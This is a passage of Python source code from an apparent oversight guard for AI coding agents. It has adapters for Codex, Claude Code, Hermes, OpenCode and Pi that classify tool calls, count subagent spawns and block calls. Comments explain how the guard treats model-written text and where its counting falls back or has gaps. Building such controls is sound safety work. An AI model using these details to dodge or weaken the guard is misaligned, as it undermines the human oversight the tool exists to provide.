        elif action["mutability"] == "delegate" or action.get("delegationLifecycleUnproven"):
            return None  # a delegate call without id cannot be counted: dropped
        cwd = payload.get("cwd") if isinstance(payload.get("cwd"), str) else None
        if cwd:
            action["cwd"] = cwd
        if _is_text(tool):
            place_call(self.host, self.canonical_tool(tool), action, tool_input, cwd)
        return HookCall(name, self.envelope("action.before", session, action=action,
                                            turnId=payload.get("turn_id") or payload.get("prompt_id"),
                                            host=self.host_meta(payload)),
                        tool_call=True, session_id=session)


# Codex: the collaboration tool families arrive with a namespace glued on.
_CODEX_CANONICAL = {prefix + short: short
                    for prefix, shorts in (
                        ("multi_agent_v1", ("send_input", "resume_agent", "wait_agent", "close_agent")),
                        ("collaboration", ("spawn_agent", "followup_task", "send_message",
                                           "list_agents", "wait_agent", "interrupt_agent")))
                    for short in shorts}

_UUID_CHARS = frozenset("0123456789abcdefABCDEF-")


def _is_uuid(value: Any) -> bool:
    return (isinstance(value, str) and len(value) == 36 and set(value) <= _UUID_CHARS
            and [len(p) for p in value.split("-")] == [8, 4, 4, 4, 12])


class CodexAdapter(_CommandHookAdapter):
    """Codex CLI command hooks."""

    host = "codex"
    family = "codex"
    EVENTS = {
        "SessionStart": "on_session_start",
        "UserPromptSubmit": "on_prompt",
        "PreToolUse": "on_pre_tool",
        "PostToolUse": "on_post_tool",
        "SessionEnd": "on_session_end",
    }
    CONTEXT_EVENTS = frozenset(("SessionStart", "UserPromptSubmit", "PreToolUse"))
    TOOLS = {
        "Bash": "_shell", "exec_command": "_shell", "shell_command": "_shell",
        "apply_patch": "_patch",
        "Edit": "_write_tool", "Write": "_write_tool",
        "spawn_agent": "delegate", "Agent": "delegate",
        "update_plan": "control", "request_user_input": "control", "wait": "control",
        "wait_agent": "control", "interrupt_agent": "control", "close_agent": "control",
        "list_agents": "control", "send_message": "control",
        "send_input": "control", "resume_agent": "control", "followup_task": "control",
        "create_goal": "control", "update_goal": "control",
        "get_goal": "read",
        "write_stdin": "unknown",  # feeds a running process: not provably anything
    }
    LIFECYCLE_UNPROVEN = frozenset(("send_input", "resume_agent", "followup_task"))

    def canonical_tool(self, name: str) -> str:
        return _CODEX_CANONICAL.get(name, name)

    def classify_unlisted(self, name: str, tool_input: Any) -> dict:
        # Codex's own batch or variant spawners (spawn_agents_on_csv, other
        # namespaces or spellings) start agents the name fallback would call
        # `unknown`, which change mode allows without a reservation.  Their
        # fan-out cannot be counted, so they are unbounded delegations.  MCP
        # tools stay with the fallback: a third-party name proves nothing, and
        # `delegate` would let it pass read-only modes.
        if "spawn_agent" in name.lower() and not name.startswith("mcp__"):
            return {"name": name, "mutability": "delegate", "unboundedDelegation": True}
        return super().classify_unlisted(name, tool_input)

    def _patch(self, name: str, tool_input: Any) -> dict:
        text = _first_text(tool_input, "command", "patch", "content", "new_string")
        return patch_action(name, text)

    def classify(self, name: str, tool_input: Any) -> dict:
        if self.canonical_tool(name) == "apply_patch" and isinstance(tool_input, str):
            return patch_action(name, tool_input)  # freeform patch as the raw input
        return super().classify(name, tool_input)

    def on_post_tool(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        tool = self.canonical_tool(str(payload.get("tool_name", "")))
        call_id = payload.get("tool_use_id") or payload.get("tool_call_id")
        if session is None or not _is_text(call_id):
            return None
        response = _as_object(payload.get("tool_response"))
        fact: Optional[dict] = None
        if tool in ("spawn_agent", "Agent"):
            agent = response.get("agent_id") if isinstance(response, dict) else None
            if _is_uuid(agent):
                fact = {"id": call_id, "lifecycle": "running", "agentId": agent}
        elif tool == "wait_agent":
            fact = self._wait_fact(call_id, payload.get("tool_input"), response)
        if fact is None:
            return None
        return HookCall(name, self.envelope("action.after", session, action=fact), render=False)

    @staticmethod
    def _wait_fact(call_id: str, tool_input: Any, response: Any) -> Optional[dict]:
        if not isinstance(response, dict) or response.get("timed_out") is not False:
            return None
        status = response.get("status")
        targets = tool_input.get("targets") if isinstance(tool_input, dict) else None
        if not isinstance(status, dict) or not isinstance(targets, list):
            return None
        ended = []
        for agent, value in status.items():
            if not _is_uuid(agent) or agent not in targets:
                continue
            finished = value == "shutdown" or (
                isinstance(value, dict) and list(value) == ["completed"]
                and (value["completed"] is None or isinstance(value["completed"], str)))
            if finished:
                ended.append(agent)
        if not ended:
            return None
        return {"id": call_id, "lifecycle": "unknown", "endedAgentIds": ended}


# Claude Code 2.1 UserPromptSubmit `source`: who authored the turn.  Only these
# are the user (typed, or given to `-p`/the SDK); absent on older builds.
_CLAUDE_USER_SOURCES = frozenset(("user", "sdk"))
# Claude Code: the slash form of the directive, at the directive position only.
_CLAUDE_SLASH_FORMS = ("/stop-that-shit:stop-that-shit", "/stop-that-shit")
_CLAUDE_DELEGATION_TOOLS = frozenset(("Agent", "Task"))
_TASK_DONE_STATUSES = frozenset(("completed", "failed", "killed"))


def _sets_contract(text: str) -> bool:
    """Whether `text`, arriving as a prompt, would change a review contract."""
    prompt = _claude_slash_to_directive(text)
    if parse_inspection_command(prompt) is not None:
        return False
    review = dict(DEFAULT_CONTRACT, mode="review", level="guard")
    return interpret_prompt(review, prompt).kind != "plain"


def _claude_slash_to_directive(prompt: str) -> str:
    """Rewrite a leading /stop-that-shit[:stop-that-shit] to $stop-that-shit, in the
    one place a directive counts (first non-empty line, at most three spaces in)."""
    lines = prompt.split("\n")
    for index, line in enumerate(lines):
        if line.strip(" \t\r") == "":
            continue
        indent = len(line) - len(line.lstrip(" "))
        if indent > 3:
            return prompt
        body = line[indent:]
        for form in _CLAUDE_SLASH_FORMS:
            if body.lower().startswith(form):
                rest = body[len(form):]
                if rest == "" or rest[0] in " \t\r,:":
                    lines[index] = line[:indent] + "$stop-that-shit" + rest
                    return "\n".join(lines)
        return prompt
    return prompt


def _tag_text(block: str, tag: str) -> Optional[str]:
    start = block.find("<%s>" % tag)
    end = block.find("</%s>" % tag)
    if start < 0 or end < start:
        return None
    return block[start + len(tag) + 2:end].strip()


def parse_task_notification(prompt: str) -> Optional[Dict[str, Optional[str]]]:
    """Claude's background-agent completion block, or None when the prompt is not one."""
    text = prompt.lstrip()
    if not text.startswith("<task-notification>") or "</task-notification>" not in text:
        return None
    block = text[:text.find("</task-notification>")]
    return {tag: _tag_text(block, tag) for tag in ("task-id", "tool-use-id", "status")}


class ClaudeAdapter(_CommandHookAdapter):
    """Claude Code command hooks."""

    host = "claude"
    family = "claude-code"
    EVENTS = {
        "SessionStart": "on_session_start",
        "UserPromptSubmit": "on_prompt",
        "UserPromptExpansion": "on_prompt_expansion",
        "PreToolUse": "on_pre_tool",
        "PostToolUse": "on_post_tool",
        "PostToolUseFailure": "on_post_tool",
        "PermissionDenied": "on_post_tool",
        "SubagentStart": "on_subagent_start",
        "SessionEnd": "on_session_end",
    }
    CONTEXT_EVENTS = frozenset(("SessionStart", "UserPromptSubmit", "UserPromptExpansion",
                                "SubagentStart", "PreToolUse"))
    TOOLS = {
        "Write": "_write_tool", "Edit": "_write_tool", "MultiEdit": "_multi_edit",
        "NotebookEdit": "_notebook",
        "EnterWorktree": "write",
        "Bash": "_shell", "Monitor": "_monitor", "PowerShell": "_powershell",
        "Agent": "delegate", "Task": "delegate", "Workflow": "_workflow",
        **{name: "read" for name in (
            "Read", "Glob", "Grep", "ListAgents", "ListMcpResourcesTool",
            "ReadMcpResourceTool", "LSP", "WebFetch", "WebSearch")},
        "CronCreate": "_scheduled_prompt", "ScheduleWakeup": "_scheduled_prompt",
        "Skill": "_skill",
        **{name: "control" for name in (
            "AskUserQuestion", "CronDelete", "CronList", "EndConversation",
            "EnterPlanMode", "ExitPlanMode", "ExitWorktree", "PushNotification",
            "ReportFindings", "SendMessage", "TodoWrite",
            "TaskCreate", "TaskUpdate", "TaskList", "TaskGet", "TaskOutput", "TaskStop",
            "ToolSearch", "WaitForMcpServers")},
    }
    LIFECYCLE_UNPROVEN = frozenset(("SendMessage",))

    def _multi_edit(self, name: str, tool_input: dict) -> dict:
        """Several Edits of one file: each pair is judged as an Edit would be."""
        path = _first_text(tool_input, "file_path", "path")
        edits = tool_input.get("edits")
        action = file_write_action(name, path, None)
        for edit in edits if isinstance(edits, list) else []:
            if isinstance(edit, dict):
                one = file_write_action(name, path, edit.get("new_string"),
                                        edit.get("old_string"), whole_file=False)
                action["hashIntent"] = action["hashIntent"] or one["hashIntent"]
                action["dependencyIntent"] = action["dependencyIntent"] or one["dependencyIntent"]
        return action

    def _notebook(self, name: str, tool_input: dict) -> dict:
        path = _first_text(tool_input, "notebook_path")
        source = tool_input.get("new_source")
        action = file_write_action(name, path, source)
        action["dependencyIntent"] = False
        if tool_input.get("cell_type") == "markdown":
            action["hashIntent"] = False   # a markdown cell is prose
        return action

    def _monitor(self, name: str, tool_input: dict) -> dict:
        if "command" not in tool_input and "ws" in tool_input:
            return {"name": name, "mutability": "read"}
        return shell_action(name, tool_input.get("command"))

    def _workflow(self, name: str, tool_input: dict) -> dict:
        return {"name": name, "mutability": "delegate", "unboundedDelegation": True}

    def prompt_text(self, payload: dict) -> Optional[str]:
        prompt = payload.get("prompt")
        return _claude_slash_to_directive(prompt) if isinstance(prompt, str) else None

    def on_prompt(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        prompt = payload.get("prompt")
        if isinstance(prompt, str):
            note = parse_task_notification(prompt)
            if note is not None:
                # A subagent's completion notice arrives as a prompt, but its
                # text is model-written: never contract authority.
                return self._task_done(payload, note, name)
        source = payload.get("source")
        if source is not None and source not in _CLAUDE_USER_SOURCES:
            # Claude names who authored the turn: a scheduled fire, a /loop
            # wakeup, a peer or channel message, an auto-continuation.  Those
            # carry text the model wrote or scheduled: never the contract.
            return HookCall(name, None, answer=NO_RESULT)
        return super().on_prompt(payload, store, name)

    def _task_done(self, payload: dict, note: dict, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        call_id, agent = note.get("tool-use-id"), note.get("task-id")
        if session is None or note.get("status") not in _TASK_DONE_STATUSES \
                or not _is_text(call_id):
            return HookCall(name, None, answer=NO_RESULT)
        fact = {"id": call_id, "lifecycle": "joined"}
        if _is_text(agent):
            fact["agentId"] = agent
        return HookCall(name, self.envelope("action.after", session, action=fact), render=False)

    def on_prompt_expansion(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        expansion = payload.get("expansion_type")
        command = payload.get("command_name")
        # Matched without case, like the typed directive (`/Stop-That-Shit`).
        if expansion not in (None, "slash_command") or not isinstance(command, str) or \
                command.lower() not in ("stop-that-shit", "stop-that-shit:stop-that-shit"):
            return None
        session = self.session_of(payload)
        args = payload.get("command_args")
        if session is None:
            return None
        prompt = "$stop-that-shit" + (" " + args if isinstance(args, str) and args else "")
        return HookCall(name, self.envelope("prompt.submit", session, prompt=prompt,
                                            host=self.host_meta(payload)))

    def on_post_tool(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        call_id = payload.get("tool_use_id") or payload.get("tool_call_id")
        # Only delegation results carry ledger facts; other results would cost a lock.
        if session is None or not _is_text(call_id) \
                or payload.get("tool_name") not in _CLAUDE_DELEGATION_TOOLS:
            return None
        fact: dict = {"id": call_id}
        if name == "PermissionDenied":
            fact["lifecycle"] = "not_started"
        elif name == "PostToolUseFailure":
            fact["lifecycle"] = "unknown"
        else:
            response = _as_object(payload.get("tool_response"))
            status = response.get("status") if isinstance(response, dict) else None
            fact["lifecycle"] = {"completed": "joined", "async_launched": "running"}.get(
                status, "unknown")
            agent = _first_text(response, "agentId", "agent_id")
            if agent:
                fact["agentId"] = agent
        return HookCall(name, self.envelope("action.after", session, action=fact), render=False)

    def on_subagent_start(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        agent = payload.get("agent_id")
        if session is None:
            return None
        return HookCall(name, self.envelope("subagent.start", session,
                                            agentId=agent if _is_text(agent) else None))


###############################################################################
# Adapters: Hermes, OpenCode, Pi and Oh My Pi
#
# Hermes speaks the native command-hook format (its plugin in host_shims/
# builds the same envelope); OpenCode, Pi and Oh My Pi arrive through the
# shims' wire protocol (see host_shims/README.md).
###############################################################################


# ---- shared by the four hosts -----------------------------------------------


class ShimCall(HookCall):
    """A HookCall that remembers the governing root and the store.

    Rendering on these hosts depends on state the core result does not carry
    (a pending directive error, the current contract line), so render() needs
    to know which session governs and where its state lives.
    """

    __slots__ = ('root', 'store', 'child')
    FIELDS = HookCall.FIELDS + ('root', 'store', 'child')
    DEFAULTS = {**HookCall.DEFAULTS, 'root': None, 'store': None, 'child': False}

    root: Optional[str]
    store: Optional[Store]
    child: bool


def _ctx(payload: Any) -> dict:
    ctx = payload.get("ctx") if isinstance(payload, dict) else None
    return ctx if isinstance(ctx, dict) else {}


def _text_or_none(value: Any) -> Optional[str]:
    return value if _is_text(value) else None


def _storage_error_of(exc: BaseException) -> dict:
    return {"code": getattr(exc, "code", None) or "PARENT_LINK_DAMAGED",
            "message": getattr(exc, "message", None) or str(exc)}


class _LinkDamaged(Exception):
    """A child -> root link cannot be read; carries the storage error."""

    def __init__(self, error: dict) -> None:
        super().__init__(error["message"])
        self.error = error


def resolve_root(store: Store, session_id: str, parent_hint: Optional[str] = None,
                 *aliases: Optional[str]) -> str:
    """The session whose contract governs `session_id`.

    parent_hint: an ancestor the shim or host told us about; it is stored as a
    link so later events without the hint resolve the same way.  aliases:
    other ids the host may have linked the session under (Hermes task_id).
    Raises _LinkDamaged when a stored link is unreadable.
    """
    try:
        if _is_text(parent_hint) and parent_hint != session_id:
            root = store.link_root(parent_hint) or parent_hint
            if root != session_id:
                link_child(store, session_id, root)
                return root
        for candidate in (session_id,) + aliases:
            if _is_text(candidate):
                root = store.link_root(candidate)
                if root and root != session_id:
                    return root
    except StateDamaged as exc:
        raise _LinkDamaged(_storage_error_of(exc))
    return session_id


def link_child(store: Store, child: str, root: str) -> None:
    """Store child -> root and give the child the root's armed marker, so a shim
    that cannot run sts.py fails closed for the child exactly as for the root."""
    store.write_link(child, root)
    try:
        store.set_armed(session_key(child), store.armed_marker(session_key(root)))
    except OSError:
        pass  # a marker is a fail-closed hint only


def _recovery_state(error: dict) -> dict:
    """Read-only recovery: review / guard / source recovery, count unproven."""
    state = default_state()
    state["contract"].update(mode="review", level="guard", source="recovery")
    state["delegation"]["unresolved"]["state:damaged"] = "state_unavailable"
    return state


def recovery_result(action: dict, error: dict, response_outcome: str) -> CoreResult:
    """An adapter-forced recovery (PARENT_LINK_DAMAGED): the core's
    own checks run against the recovery state, so reads pass and the rest is
    denied with the storage code, exactly as for a damaged state file."""
    parsed = Action.from_dict(action)
    state = _recovery_state(error)
    decision = decide(parsed, state, action_id=parsed.id, declared=True, storage_error=error)
    if decision.outcome == "allow":
        return NO_RESULT
    kind = "context" if decision.outcome == "report_and_defer" else "deny"
    text = decision_message(decision, state_label="ARMED", mode="review",
                            response_outcome=response_outcome if kind == "deny"
                            else "context_returned", event_id=None)
    return CoreResult(kind, text, decision.code)


def _pending_directive_error(store: Store, root: str) -> Optional[dict]:
    """Lock-free read: tool hooks must not wait on the prompt hook's lock."""
    error = store.load(session_key(root)).state.get("directiveError")
    return error if isinstance(error, dict) and error else None


def directive_pause_text(error: dict) -> str:
    """What Hermes and OpenCode say while a directive is rejected: they cannot
    reject the prompt itself, so the agent is told which directive failed, that
    the previous contract still applies, and that tools wait for a fix."""
    return directive_rejected_text(error, paused=True)


def _rejected_text(result: CoreResult) -> str:
    """The visible error for hosts that swallow a rejected input (Pi, Oh My Pi)."""
    error = rejection_of(result)
    return directive_rejected_text(error) if error else result.text


def current_context(store: Store, root: str) -> str:
    """The contract line of `root`, read lock-free (for answers the core did not give)."""
    loaded = store.load(session_key(root))
    summary = ledger_summary(loaded.state["delegation"])
    return contract_context(loaded.state["contract"], summary.reserved,
                            bool(summary.unresolved_reasons), loaded.storage_error)


def _would_change_contract(store: Store, root: str, text: str) -> bool:
    """True when a prompt would change authority (so it must wait for an idle turn)."""
    if has_directive_mention(text):
        return True
    contract = store.load(session_key(root)).state["contract"]
    return interpret_prompt(contract, text).kind != "plain"


def _json(obj: Any) -> str:
    return json.dumps(obj, ensure_ascii=False)


def _needs_call_id(action: dict) -> bool:
    return action.get("mutability") == "delegate" or bool(action.get("delegationLifecycleUnproven"))


class _HostBAdapter(Adapter):
    """Common translation for Hermes, OpenCode, Pi and Oh My Pi.

    Child sessions are judged by their root: events carry sessionId = root and
    sourceSessionId = the child's own id (the core namespaces call ids).
    """

    TOOLS: Dict[str, str] = {}

    def classify(self, name: str, tool_input: Any) -> dict:
        bucket = self.TOOLS.get(self.tool_key(name))
        if bucket is None:
            return self.classify_unlisted(name, tool_input)
        if bucket.startswith("_"):
            return getattr(self, bucket)(name, tool_input if isinstance(tool_input, dict) else {})
        action = {"name": name, "mutability": bucket}
        if bucket == "delegate":
            action["delegationCount"] = 1
        return action

    def tool_key(self, name: str) -> str:
        return name

    def classify_unlisted(self, name: str, tool_input: Any) -> dict:
        return unlisted_action(name, tool_input, "unknown")  # Hermes, Pi, OMP: no name fallback

    def _shell(self, name: str, tool_input: dict) -> dict:
        return shell_action(name, tool_input.get("command"))

    def _powershell(self, name: str, tool_input: dict) -> dict:
        return shell_action(name, tool_input.get("command"), powershell=True)

    def host_resolution(self, action: dict, tool_input: Any, cwd: Optional[str]) -> None:
        """Paths the host itself may substitute for the ones named (none here)."""

    def fields(self, session: str, root: str, **more: Any) -> dict:
        if session != root:
            more["sourceSessionId"] = session
        return more

    def before_call(self, name: str, session: str, root: str, action: dict,
                    call_id: Any, cwd: Any, store: Store, tool_input: Any = None,
                    **more: Any) -> Optional[ShimCall]:
        """action.before for `root`; None when a delegate call has no id (it
        could not be counted)."""
        if _is_text(call_id):
            action["id"] = call_id
        elif _needs_call_id(action):
            return None
        cwd = cwd if isinstance(cwd, str) and cwd else None
        if cwd:
            action["cwd"] = cwd
        self.host_resolution(action, tool_input, cwd)
        place_call(self.host, self.tool_key(action["name"]), action, tool_input, cwd)
        event = self.envelope("action.before", root, action=action,
                              host={"family": self.family}, **self.fields(session, root, **more))
        return ShimCall(name, event, tool_call=True, session_id=session, root=root,
                        store=store, child=session != root)

    def damaged_tool_call(self, name: str, session: str, action: dict, call_id: Any,
                          error: dict) -> ShimCall:
        if _is_text(call_id):
            action["id"] = call_id
        elif _needs_call_id(action):
            action["id"] = "unidentified"  # still denied: recovery allows only reads
        return ShimCall(name, None, answer=recovery_result(action, error, self.response_outcome),
                        tool_call=True, session_id=session)


class _ShimAdapter(_HostBAdapter):
    """OpenCode, Pi, Oh My Pi: the shims' wire protocol (host_shims/README.md).

    The shim needs exactly one JSON object back, so every path answers at
    least `{}` (an unmapped hook included).
    """

    response_outcome = "execution_denial_returned"

    def event_name(self, payload: dict) -> Optional[str]:
        hook = payload.get("hook")
        return hook if isinstance(hook, str) else None

    def session_of(self, payload: dict) -> Optional[str]:
        return _text_or_none(payload.get("sessionId"))

    def translate(self, payload: dict, store: Store) -> Optional[HookCall]:
        name = self.event_name(payload) or ""
        body = payload.get("payload")
        method = self.EVENTS.get(name)
        call = None
        if method is not None and isinstance(body, dict):
            call = getattr(self, method)(payload, body, store, name)
        return call if call is not None else ShimCall(name, None, answer=NO_RESULT)

    def render(self, result: CoreResult, call: HookCall) -> str:
        if result.kind == "deny":
            return _json({"block": True, "reason": result.text or "Stop That Shit blocked this call."})
        if result.kind == "prompt-error":
            return self.render_prompt_error(result, call)
        if result.kind == "context" and result.text and call.render:
            return _json({"context": result.text})
        return "{}"

    def render_prompt_error(self, result: CoreResult, call: HookCall) -> str:
        return _json({"block": True, "reason": _rejected_text(result)})

    def cwd_of(self, payload: dict) -> Optional[str]:
        cwd = payload.get("cwd")
        return cwd if isinstance(cwd, str) and cwd else None


def _block(name: str, reason: str, session: Optional[str] = None,
           tool_call: bool = False) -> ShimCall:
    return ShimCall(name, None, answer=CoreResult("deny", reason), tool_call=tool_call,
                    session_id=session)


# ---- Hermes Agent -----------------------------------------------------------
# Hermes delegate_task child statuses.
_HERMES_DONE = frozenset(("completed", "failed", "error", "success"))
_HERMES_JOINED = frozenset(("completed", "failed", "error"))


def _v4a_paths(patch_text: Any) -> List[str]:
    """Paths named by a Hermes V4A patch, read the way Hermes' own parser reads
    them: `***`, optional blanks, Add/Update/Delete/Move, blanks, `File:`;
    Move names both sides of `A -> B`.

    Hermes matches with Python's Unicode `\\s` (tools/patch_parser.py), so a
    vertical tab, \\r or NBSP between the words still makes a header; the
    same patterns are used here so that no header Hermes obeys is missed.
    """
    if not isinstance(patch_text, str):
        return []
    header = _an_rx("v4a_file", r"\*\*\*\s*(?:Update|Add|Delete)\s+File:\s*(.+)")
    # Hermes' `(.+?)\s*->\s*(.+)` splits at the first "->"; partition does
    # the same without a backtracking regex over model text.
    move = _an_rx("v4a_move", r"\*\*\*\s*Move\s+File:")
    paths: List[str] = []
    for line in patch_text.split("\n"):
        found = header.match(line)
        if found:
            if found.group(1).strip():
                paths.append(found.group(1).strip())
            continue
        found = move.match(line)
        if found:
            source, arrow, dest = line[found.end():].partition("->")
            if arrow and source.strip() and dest.strip():
                paths.extend((source.strip(), dest.strip()))
    return paths


def _added_lines(patch_text: str) -> str:
    return "\n".join(line[1:] for line in patch_text.splitlines()
                     if line.startswith("+") and not line.startswith("+++"))


def hermes_delegation_count(tool_input: Any) -> int:
    """The number of children of a delegate_task: the length of `tasks` (an
    array or its JSON text), else 1 for a non-empty `goal`, else 0.

    A `tasks` value that is not a usable array counts as absent rather than
    as zero: Hermes then falls back to `goal` and starts that child, so
    counting 0 would let it run unreserved.
    """
    if not isinstance(tool_input, dict):
        return 0
    tasks = tool_input.get("tasks")
    if isinstance(tasks, str):
        try:
            tasks = json.loads(tasks)
        except ValueError:
            tasks = None
    if isinstance(tasks, list) and tasks:
        return len(tasks)
    return 1 if _is_text(tool_input.get("goal")) else 0


def _sole_open_reservation(store: Store, root: str) -> Optional[str]:
    """The one delegation call that still has an unbound unit, else None.

    Hermes 0.19 background results carry no subagent ids, so nothing would
    ever bind a child to its delegate_task call and a finite budget would stay
    spent.  A child is bound only when exactly one call can
    own it; with two candidates nothing is guessed (never first-in-first-out).
    """
    reservations = store.load(session_key(root)).state["delegation"].get("reservations")
    open_keys = [key for key, item in (reservations or {}).items()
                 if isinstance(item, dict) and item.get("completionScope") != "call"
                 and isinstance(item.get("pendingCount"), int) and item["pendingCount"] > 0]
    return open_keys[0] if len(open_keys) == 1 else None


# Hermes `cronjob` actions that start nothing (create, update, resume and run
# schedule or start an agent run).
_HERMES_CRON_CONTROLS = frozenset(("list", "pause", "remove"))
# Link name of a Hermes task id, for tool calls that carry no session id.
_HERMES_TASK_LINK = "hermes-task:"
# How Hermes 0.19 begins the notices it queues as user turns (process_registry).
_HERMES_NOTICE_HEADS = ("[IMPORTANT: ", "[ASYNC DELEGATION ")


class HermesAdapter(_HostBAdapter):
    """Hermes Agent: native command-hook stdin; the plugin builds the same envelope."""

    host = "hermes"
    family = "hermes-agent"
    response_outcome = "permission_deny_returned"
    EVENTS = {
        "pre_llm_call": "on_prompt",
        "pre_tool_call": "on_pre_tool",
        "post_tool_call": "on_post_tool",
        "subagent_start": "on_subagent_start",
        "subagent_stop": "on_subagent_stop",
        "on_session_end": "on_session_end",
    }
    TOOLS = {
        **{name: "read" for name in (
            "read_file", "search_files", "web_search", "web_extract", "vision_analyze",
            "session_search", "skill_view", "skills_list")},
        "write_file": "_write_file", "patch": "_patch", "terminal": "_shell",
        "execute_code": "_execute_code", "cronjob": "_cronjob",
        "delegate_task": "_delegate", "clarify": "control", "todo": "control",
    }

    def extra(self, payload: dict) -> dict:
        extra = payload.get("extra")
        return extra if isinstance(extra, dict) else {}

    def field(self, payload: dict, key: str) -> Any:
        """Top level first (plugin kwargs), then `extra` (native hooks)."""
        value = payload.get(key)
        return value if value is not None else self.extra(payload).get(key)

    def session_of(self, payload: dict) -> Optional[str]:
        return _text_or_none(payload.get("session_id")) or \
            _text_or_none(self.extra(payload).get("parent_session_id"))

    def translate(self, payload: dict, store: Store) -> Optional[HookCall]:
        name = self.event_name(payload)
        method = self.EVENTS.get(name) if name else None
        return getattr(self, method)(payload, store, name) if method else None

    def render(self, result: CoreResult, call: HookCall) -> str:
        if result.kind == "deny":
            return _json({"action": "block",
                          "message": result.text or "Stop That Shit blocked this call."})
        if call.host_event != "pre_llm_call" or not call.render:
            return ""  # Hermes shows context on prompts only
        if result.kind == "prompt-error":
            error = rejection_of(result)
            return _json({"context": directive_pause_text(error) if error else result.text})
        text = result.text if result.kind == "context" else ""
        store, root = getattr(call, "store", None), getattr(call, "root", None)
        if store is not None and root and not getattr(call, "child", False):
            pending = _pending_directive_error(store, root)
            if pending:  # the rejection stays in front of every prompt until fixed
                text = directive_pause_text(pending) + ("\n\n" + text if text else "")
        return _json({"context": text}) if text else ""

    def resolve(self, payload: dict, store: Store) -> Optional[str]:
        session = self.session_of(payload)
        if session is None:
            return None
        return resolve_root(store, session, None, _text_or_none(self.field(payload, "task_id")))

    # ---- tools --------------------------------------------------------------
    def _write_file(self, name: str, tool_input: dict) -> dict:
        return file_write_action(name, tool_input.get("path"), tool_input.get("content"))

    def _patch(self, name: str, tool_input: dict) -> dict:
        if tool_input.get("mode") == "patch":
            text = tool_input.get("patch")
            if not isinstance(text, str):
                text = _first_text(tool_input, "patch_text", "content", "input") or ""
            paths = _v4a_paths(text)
            # Intents come from the shared patch reader, file by file with each
            # file's path, as on every other host.  A header only Hermes' own
            # parser accepts leaves its lines unattributed: they are read whole.
            summary = analyze_patch(text, v4a=True)
            stray = [p for p in paths if p not in summary.paths]
            added = _added_lines(text) if stray else ""
            return {"name": name, "mutability": "write", "affectedPaths": paths,
                    "hashIntent": summary.hash_intent or (
                        bool(added) and hash_intent_in_text(added, None)),
                    "dependencyIntent": summary.dependency_intent or (bool(added) and any(
                        dependency_intent_in_change(p, None, added) for p in stray))}
        return file_write_action(name, tool_input.get("path"), tool_input.get("new_string"),
                                 tool_input.get("old_string"), whole_file=False)

    def _execute_code(self, name: str, tool_input: dict) -> dict:
        # Python in a sandbox that can also call terminal/write_file/patch
        # (those calls come back through pre_tool_call on their own).
        return code_action(name, "python", tool_input.get("code"))

    def _cronjob(self, name: str, tool_input: dict) -> dict:
        """Managing jobs is a control; creating, changing or running one starts
        an agent later, in a session of its own the guard never counts."""
        verb = tool_input.get("action")
        if isinstance(verb, str) and verb.strip().lower() in _HERMES_CRON_CONTROLS:
            return {"name": name, "mutability": "control"}
        return {"name": name, "mutability": "unknown", "startsAgent": "hermes cronjob"}

    def _delegate(self, name: str, tool_input: dict) -> dict:
        count = hermes_delegation_count(tool_input)
        verb = tool_input.get("action")
        # Hermes 0.19 has no `action` parameter and ignores it: a call that
        # also names a goal or tasks still starts children, so only a call
        # that cannot start any is a control.
        if isinstance(verb, str) and verb.lower() in ("list", "steer", "stop") and count == 0:
            return {"name": name, "mutability": "control", "delegationCount": 0}
        return {"name": name, "mutability": "delegate", "delegationCount": count}

    # ---- events -------------------------------------------------------------
    def on_prompt(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        if session is None:
            return None
        try:
            root = self.resolve(payload, store)
        except _LinkDamaged as exc:
            text = "%s: %s" % (exc.error["code"], exc.error["message"])
            return ShimCall(name, None, answer=CoreResult("context", text), session_id=session)
        # REAL 0.19.0: a root's pre_llm_call never names a parent session, so
        # one that does is a child's even without platform "subagent" (and
        # session_of may have fallen back to that parent's id).
        child = root != session or self.field(payload, "platform") == "subagent" \
            or _is_text(self.field(payload, "parent_session_id"))
        if child:
            if root == session:
                return None  # an unlinked subagent: no root to speak for, and no authority
            # Model-written goal text: answer the root's contract, never parse it.
            event = self.envelope("session.start", root, sourceSessionId=session,
                                  host={"family": self.family})
            return ShimCall(name, event, session_id=session, root=root, store=store, child=True)
        task = _text_or_none(self.field(payload, "task_id"))
        if task:
            # Tools that execute_code calls from its sandbox name only this
            # task.  The link has its own name space: several root sessions
            # may share a task id, and this link must not merge them.
            try:
                if store.link_root(_HERMES_TASK_LINK + task) != root:
                    link_child(store, _HERMES_TASK_LINK + task, root)
            except (OSError, StateDamaged):
                pass
        prompt = self.field(payload, "user_message")
        if not isinstance(prompt, str):
            return None
        if prompt.lstrip().startswith(_HERMES_NOTICE_HEADS):
            # Hermes queues its own notices (a background process ended, an
            # async delegation finished) as user turns; they carry output the
            # model wrote, so they never set the contract.
            event = self.envelope("session.start", root, host={"family": self.family})
            return ShimCall(name, event, session_id=session, root=root, store=store)
        turn = self.field(payload, "turn_id") or self.extra(payload).get("parent_turn_id")
        event = self.envelope("prompt.submit", root, prompt=prompt, turnId=turn,
                              host={"family": self.family})
        return ShimCall(name, event, session_id=session, root=root, store=store)

    def on_pre_tool(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        task = _text_or_none(self.field(payload, "task_id"))
        if session is None and task is not None:
            # A tool that `execute_code` calls from its sandbox arrives with an
            # empty session id and the task id; the task is linked to its
            # session when that session's prompt arrives (on_prompt).
            session = _HERMES_TASK_LINK + task
        if session is None:
            return None
        tool = payload.get("tool_name")
        call_id = self.field(payload, "tool_call_id")
        tool_input = payload.get("tool_input")
        action = self.classify(tool, tool_input) if _is_text(tool) else unreadable_call()
        try:
            root = self.resolve(payload, store) if not session.startswith(_HERMES_TASK_LINK) \
                else resolve_root(store, session)
        except _LinkDamaged as exc:
            return self.damaged_tool_call(name, session, action, call_id, exc.error)
        pending = _pending_directive_error(store, root)
        if pending:  # paused until a corrected directive, without asking the core (not audited)
            return _block(name, directive_pause_text(pending), session, tool_call=True)
        return self.before_call(name, session, root, action, call_id, payload.get("cwd"), store,
                                tool_input=tool_input, turnId=self.field(payload, "turn_id"))

